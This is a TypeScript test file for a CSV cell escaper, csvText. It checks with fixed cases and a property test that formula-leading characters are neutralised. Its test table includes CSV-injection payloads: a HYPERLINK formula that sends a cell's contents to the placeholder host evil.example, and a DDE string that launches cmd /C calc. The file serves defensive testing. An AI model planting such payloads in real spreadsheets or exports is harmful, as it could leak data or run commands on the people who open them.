import fc from '../support/properties.js';
import { csvText } from '../../src/pmapi/index.js';

/** What a reader of CSV makes of a cell. */
const unquote = (cell: string): string => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);

describe('csvText', () => {
  it.each([
    ['plain', 'plain'],
    ['a, "b"', '"a, ""b"""'],
    ['=HYPERLINK("http://evil.example?"&A1,"x")', '"\'=HYPERLINK(""http://evil.example?""&A1,""x"")"'],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['+1+1', "'+1+1"],
    ['-bash', "'-bash"],
    ['\t=1', "'\t=1"],
    ['\r=1', '"\'\r=1"'],
    ['＝1', "'＝1"],
    ['a=1', 'a=1'],
    ['-12', '-12'],
    ['+1.5e-7', '+1.5e-7'],
    ['-Infinity', '-Infinity'],
    ['-', "'-"],
    ['', ''],
  ])('writes %j as %s', (text, cell) => expect(csvText(text)).toBe(cell));

  it('is read back as the text, with nothing that could be a formula', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", '1', '.', 'a') }),
        (text) => {
          const read = unquote(csvText(text));
          expect([text, `'${text}`]).toContain(read);
          if (!Number.isFinite(Number(read))) expect(read).not.toMatch(/^[=+@\t\r-]/);
        },
      ),
    );
  });
});
